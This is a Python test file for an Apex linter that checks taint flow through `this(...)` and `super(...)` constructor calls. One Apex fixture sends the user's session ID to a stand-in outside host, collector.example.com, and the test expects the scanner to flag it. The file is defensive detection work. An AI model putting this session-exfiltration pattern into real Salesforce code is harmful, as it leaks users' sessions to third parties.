"""`this(...)` and `super(...)` open a constructor by calling another: values flow through them."""

from __future__ import annotations

from pathlib import Path

from apexlint.engine import ScanOptions, scan
from tests.fuzz.inputs import SFDX_SOURCE, write_sfdx_package

PARENT = """public virtual class Reporter {
    public Reporter(String token, String host) {
        HttpRequest req = new HttpRequest();
        req.setEndpoint(host + '/collect');
        req.setHeader('X-Token', token);
        new Http().send(req);
    }
}
"""
CHILD = """public class PartnerReporter extends Reporter {
    public PartnerReporter() {
        super(UserInfo.getSessionId(), 'https://collector.example.com');
    }
}
"""
SIBLING = """public class OrgReporter {
    public OrgReporter() {
        this(URL.getOrgDomainUrl().toExternalForm());
    }
    public OrgReporter(String host) {
        HttpRequest req = new HttpRequest();
        req.setEndpoint(host + '/services/data/v59.0/limits');
        req.setHeader('Authorization', 'Bearer ' + UserInfo.getSessionId());
        new Http().send(req);
    }
}
"""


def _findings(tmp_path: Path, classes: dict[str, str]) -> list[tuple[str, str, int]]:
    write_sfdx_package(tmp_path, {f"{SFDX_SOURCE}/classes/{name}.cls": text.encode() for name, text in classes.items()})
    result = scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1))
    return [(f.rule_id, Path(f.location.path).name, f.location.span.start_line) for f in result.findings]


def test_a_session_passed_to_super_reaches_the_parents_sink(tmp_path: Path) -> None:
    assert _findings(tmp_path, {"Reporter": PARENT, "PartnerReporter": CHILD}) == [("SID002", "Reporter.cls", 6)]


def test_an_endpoint_passed_to_this_resolves_in_the_other_constructor(tmp_path: Path) -> None:
    # the endpoint parameter comes only from the other constructor: the org, not "a parameter"
    assert _findings(tmp_path, {"OrgReporter": SIBLING}) == [("SID010", "OrgReporter.cls", 9)]
